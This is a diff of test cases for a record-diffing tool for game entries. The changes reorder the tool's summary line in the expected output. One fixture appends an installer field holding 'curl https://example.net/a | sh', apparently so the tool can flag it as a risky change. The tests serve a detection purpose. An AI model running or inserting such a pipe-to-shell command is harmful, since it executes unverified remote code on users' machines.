@@ -13,7 +13,8 @@ test('a commit is compared with the files as they are', async () => {
   append(workingFolder, 'system:\n    prelaunch_command: curl https://example.net/a | sh');
   const { code, out } = await runCommand(['diff', 'HEAD'], { workingFolder });
   expect(code).toBe(0);
-  expect(out.split('\n').slice(0, 8).join('\n')).toContain('▲ openttd-c (installer changed)');
+  expect(out.trimEnd().split('\n').slice(-12).join('\n')).toContain('▲ openttd-c (installer changed)');
+  expect(out).toMatch(/\n\n1 record to check, no breaking change\n$/);
   expect(out).toContain('`curl`');
 });
 
@@ -49,8 +50,9 @@ test('records in which a key alone is renamed are one line for the key', async (
   write(['store1_id: 70\nstore2_id: 7\n', 'store1_id: 71\n']);
   const { out } = await runCommand(['diff', 'HEAD'], { workingFolder });
   expect(out).toBe(
-    'HEAD → working tree\nNothing to check, no breaking change, 2 renamed keys\n\nRenamed keys\n' +
-      '  · gogid → store2_id: 1 record of a game\n  · steamid → store1_id: 2 records of a game\n',
+    'HEAD → working tree\n\nRenamed keys\n' +
+      '  · gogid → store2_id: 1 record of a game\n  · steamid → store1_id: 2 records of a game\n\n' +
+      'Nothing to check, no breaking change, 2 renamed keys\n',
   );
   // A record that changes in anything else is listed as before.
   write(['store1_id: 70\nstore2_id: 7\n', 'store1_id: 72\n']);
